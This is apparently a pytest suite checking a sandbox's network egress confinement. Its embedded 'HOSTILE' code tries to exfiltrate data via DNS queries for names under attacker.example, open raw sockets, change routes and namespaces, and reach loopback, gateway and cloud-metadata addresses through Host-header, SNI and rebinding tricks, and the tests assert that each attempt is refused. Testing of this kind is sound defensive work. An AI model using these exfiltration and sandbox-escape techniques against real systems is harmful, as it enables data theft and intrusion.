"""Hostile code with egress: tries to reach more than its rules allow, in a real sandbox, with a world outside."""

import asyncio
import contextlib
import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from isotherm.base.errors import NotIsolated, Unavailable
from isotherm.egress.names import NameTable
from isotherm.wire.egress import EgressAllow
from isotherm_runtime import linux
from isotherm_runtime.verify import NotConfined, check_namespaces
from tests.contracts.sandbox.client import Client
from tests.egress.conftest import TRAVELLER, Reach, Traveller, bench, egress, outside, reach, warden
from tests.egress.egress_process import OWN_PORT
from tests.egress.outside import API, GATEWAY, NAME_SERVER, OTHER, Outside
from tests.egress.sabotage import sabotaged
from tests.sandbox.conftest import Bench

__all__ = ["bench", "egress", "outside", "reach", "warden"]  # fixtures

pytestmark = pytest.mark.root

REFUSED = {"ConnectionResetError", "RemoteDisconnected", "SSLEOFError", "ConnectionRefusedError"}
OPEN = ("0.0.0.0/0", "::/0")

HOSTILE = (
    TRAVELLER
    + """
import ctypes, errno, fcntl, os, struct

libc = ctypes.CDLL(None, use_errno=True)

def attempt(action):
    try:
        return action() or "worked"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))

def make(*kind):
    socket.socket(*kind).close()

def option(level, name, value):
    with socket.socket() as client:
        client.setsockopt(level, name, value)

def bind(kind, port):
    with socket.socket(socket.AF_INET, kind) as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        server.bind(("127.0.0.1", port))

def interface_down():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        fcntl.ioctl(probe, 0x8914, struct.pack("16sh14x", b"lo", 0))

def add_route():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        fcntl.ioctl(probe, 0x890B, bytes(120))

def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")

def write(path):
    with open(path, "w") as file:
        file.write("1")

def change(event):
    return {
        "loopback down": attempt(interface_down),
        "a route": attempt(add_route),
        "netlink": attempt(lambda: make(socket.AF_NETLINK, socket.SOCK_RAW)),
        "packets": attempt(lambda: make(socket.AF_PACKET, socket.SOCK_RAW)),
        "raw": attempt(lambda: make(socket.AF_INET, socket.SOCK_RAW, 1)),
        "bpf": attempt(lambda: checked(libc.syscall(321 if os.uname().machine == "x86_64" else 280, 0, 0, 0))),
        "another network": attempt(lambda: checked(libc.unshare(0x40000000))),
        "transparent": attempt(lambda: option(socket.SOL_IP, 19, 1)),
        "mark": attempt(lambda: option(socket.SOL_SOCKET, 36, 1)),
        "names by UDP": attempt(lambda: bind(socket.SOCK_DGRAM, 53)),
        "names by TCP": attempt(lambda: bind(socket.SOCK_STREAM, 53)),
        "forwarding": attempt(lambda: write("/proc/sys/net/ipv4/ip_forward")),
        "low ports": attempt(lambda: write("/proc/sys/net/ipv4/ip_unprivileged_port_start")),
    }

def query(event):
    import random
    labels = b"".join(bytes([len(part)]) + part.encode() for part in event["name"].split("."))
    message = struct.pack("!6H", random.randrange(65536), 0x100, 1, 0, 0, 0) + labels + bytes([0, 0, 16, 0, 1])
    if event["by"] == "tcp":
        with socket.create_connection((event["server"], 53), 3) as client:
            client.sendall(struct.pack("!H", len(message)) + message)
            return client.recv(600)[2:][3] & 15
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.connect((event["server"], 53))
        client.send(message)
        return client.recv(600)[3] & 15

servers = []

def listen(event):
    server = socket.create_server(("127.0.0.1", 6000))
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\\0isotherm-test")
    abstract.listen()
    servers.extend([server, abstract])
    return "listening"

def visit(event):
    return [attempt(lambda: socket.create_connection(("127.0.0.1", 6000), 2).close()), attempt(abstract_connect)]

def abstract_connect():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\\0isotherm-test")
"""
)


class Trap(http.server.BaseHTTPRequestHandler):
    """A server of this machine that no function should reach."""

    def do_GET(self) -> None:
        self.server.visits.append(self.client_address)  # type: ignore[attr-defined]  # the trap's own
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        return


@contextlib.contextmanager
def trap(host: str, port: int = 0) -> Iterator[tuple[int, list[object]]]:
    """Its port, and who came."""
    with http.server.ThreadingHTTPServer((host, port), Trap) as server:
        visits: list[object] = []
        server.visits = visits  # type: ignore[attr-defined]  # as above
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1], visits
        server.shutdown()


async def test_one_that_may_not_reach_anything_reaches_nothing(reach: Reach) -> None:
    function = await reach()
    assert await function("names", name="api.example.com") == "gaierror"
    assert await function("web", url=f"http://{API}/") == "OSError"  # there is no route
    assert await function("datagram", host=NAME_SERVER, port=53) == "OSError"
    assert function.reports == []


async def test_another_host_is_not_reached_by_any_trick(reach: Reach) -> None:
    function = await reach("api.example.com")
    not_given_out = NameTable().address_of("other.example.net")
    tricks = {
        "its name": await function("web", url="http://other.example.net/"),
        "its address": await function("web", url=f"http://{OTHER}/"),
        "the allowed one's address": await function("web", url=f"http://{API}/"),
        "a guessed address of its name": await function("web", url=f"http://{not_given_out}/"),
        "a Host header": await function("web", url="http://api.example.com/", host="other.example.net"),
        "a server name": await function("tls", host="api.example.com", port=8080, name="other.example.net"),
        "a datagram": await function("datagram", host=OTHER, port=80),
    }
    assert {name: found for name, found in tricks.items() if found not in REFUSED | {"gaierror"}} == {}
    said = "egress to other.example.net:80 is not allowed"
    assert "asked for in a connection to api.example.com" in await function.told(said)
    assert await function.told("egress to other.example.net:8080 is not allowed")
    assert "is not allowed" in await function.told(f"egress to {OTHER}:80")
    assert "allowed" not in await function("tls", host="api.example.com", port=8080, name="api.example.com")


async def test_no_name_carries_anything_out(reach: Reach, outside: Outside) -> None:
    function = await reach("api.example.com", cidrs=OPEN, code=HOSTILE)
    refused = 3
    for number, (by, server) in enumerate((("udp", "127.0.0.1"), ("tcp", "127.0.0.1"))):
        found = await function("query", name=f"secret{number}.attacker.example", by=by, server=server)
        assert found == refused
    assert await function("names", name="secret3.attacker.example") == "gaierror"
    assert await function("query", name="secret4.attacker.example", by="udp", server=NAME_SERVER) in REFUSED
    assert await function("names", name="api.example.com") != "gaierror"
    asked = outside.asked()
    assert "api.example.com" in asked
    assert [name for name in asked if "attacker" in name] == []


async def test_no_rule_leads_to_the_machine_itself(reach: Reach) -> None:
    function = await reach("*", cidrs=(*OPEN, f"{GATEWAY}/32"))
    with trap("127.0.0.1") as (port, visits), trap(GATEWAY, OWN_PORT) as (_, own), trap(GATEWAY) as (named, reached):
        for url in (
            f"http://127.0.0.1:{port}/",
            f"http://[::1]:{port}/",
            f"http://0.0.0.0:{port}/",
            f"http://[::ffff:127.0.0.1]:{port}/",
            f"http://loop.example.com:{port}/",
            f"http://localhost:{port}/",
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.example.com/",
            f"http://{GATEWAY}:{OWN_PORT}/",
            f"http://gateway.example.com:{OWN_PORT}/",
        ):
            assert await function("web", url=url) in REFUSED, url
        assert (visits, own) == ([], [])
        assert await function("web", url=f"http://gateway.example.com:{named}/") == ""  # its rule names it
        assert len(reached) == 1
    assert await function.told("it is a port of the platform itself")


async def test_an_address_of_the_machine_is_closed_where_no_rule_names_it(reach: Reach) -> None:
    function = await reach("*", cidrs=(*OPEN, "198.51.100.0/24"))
    with trap(GATEWAY) as (port, visits):
        for host in (GATEWAY, "gateway.example.com"):
            assert await function("web", url=f"http://{host}:{port}/") in REFUSED
        assert visits == []
    assert "of the machine that runs the platform" in await function.told(f"(it is {GATEWAY})")


async def test_a_name_that_changes_its_address_gains_nothing(reach: Reach) -> None:
    function = await reach("rebind.example.com")
    with trap("127.0.0.1") as (port, visits):
        (address,) = await function("names", name="rebind.example.com")  # resolved, and looked at
        await asyncio.sleep(1.2)  # it is worth a second: a name server says so, and may mean it
        url = f"http://{address}:{port}/"
        assert await function("web", url=url, host="rebind.example.com") in REFUSED
        assert visits == []
    assert "no rule allows that" in await function.told("(it is 127.0.0.1)")


async def test_the_network_cannot_be_changed_from_inside(reach: Reach) -> None:
    function = await reach("api.example.com", code=HOSTILE)
    worked = {what: found for what, found in (await function("change")).items() if found == "worked"}
    assert worked == {}
    assert "198.51.100.10" in await function("web", url="http://api.example.com/")


async def test_revisions_do_not_see_each_other(reach: Reach) -> None:
    one, other = [await reach("api.example.com", code=HOSTILE) for _ in range(2)]
    assert await one("listen") == "listening"
    assert await one("visit") == ["worked", "worked"]
    assert await other("visit") == ["ECONNREFUSED", "ECONNREFUSED"]


async def test_an_instance_elsewhere_is_refused(bench: Bench, reach: Reach) -> None:
    cheat = (
        f"from isotherm_runtime import linux\nc = linux.clone\nlinux.clone = lambda flags: c(flags | {linux.NEWNET})\n"
    )
    with pytest.raises(Unavailable):
        await reach("api.example.com", code=cheat + TRAVELLER)
    here = linux.namespaces_of("self")
    elsewhere = {name: inode if name != "net" else inode + 1 for name, inode in here.items()}
    with pytest.raises(NotConfined, match="another network namespace"):
        check_namespaces(os.getpid(), elsewhere, own_network=False)


async def test_a_sandbox_elsewhere_is_refused(tmp_path: Path) -> None:
    enters, makes = "linux.setns(launch.network_fd, linux.NEWNET)", "linux.unshare(linux.NEWNET)"
    elsewhere = pytest.raises(NotIsolated, match="in another network namespace than its own")
    with sabotaged(tmp_path, "warden/launcher.py", enters, makes) as made, elsewhere:
        await made.template(egress=EgressAllow(hosts=["api.example.com"]))


async def test_a_host_that_cannot_do_it_refuses_those_that_ask_and_no_others(tmp_path: Path) -> None:
    with sabotaged(tmp_path, "warden/bpf.py", '"x86_64": 321, "aarch64": 280', "") as made:
        with pytest.raises(NotIsolated, match="egress cannot be had on this host"):
            await made.template(egress=EgressAllow(hosts=["api.example.com"]))
        probe = await made.driver.probe()
        check = next(check for check in probe.checks if check.name == "egress")
        assert (check.ok, check.needed, probe.isolated) == (False, False, True)
        assert "no function can have it: BPF is not supported" in check.detail
        async with Client(await (await made.template()).start()) as client:
            assert (await client.invoke(1)).value == 1
        os.close(client.instance.output)
        await made.driver.close()


def test_a_traveller_says_what_it_saw() -> None:
    """The tools of these tests fail loudly: an attack that cannot run is no attack that failed."""
    scope: dict[str, object] = {}
    exec(compile(HOSTILE, "hostile", "exec"), scope)
    handler = scope["handler"]
    assert callable(handler)
    with trap("127.0.0.1") as (port, visits):
        assert handler({"do": "web", "url": f"http://127.0.0.1:{port}/"}, None) == ""
        assert len(visits) == 1
    assert Traveller.__doc__
